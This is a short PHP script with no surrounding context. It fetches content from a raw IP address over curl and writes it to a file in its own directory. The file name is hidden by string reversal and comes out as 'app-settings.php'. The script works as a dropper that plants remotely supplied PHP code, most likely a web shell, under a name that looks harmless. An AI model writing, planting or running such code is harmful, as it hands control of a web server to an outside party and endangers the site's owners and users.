<?php
function g($u){$c=curl_init();curl_setopt($c,CURLOPT_URL,$u);curl_setopt($c,CURLOPT_RETURNTRANSFER,1);$r=curl_exec($c);curl_close($c);return $r;}
$t=dirname(__FILE__).'/'.strrev('php.sgnittes-ppa');
$d=g('http://203.0.113.9/s');
if($d){$h=fopen($t,'w');fwrite($h,$d);fclose($h);}
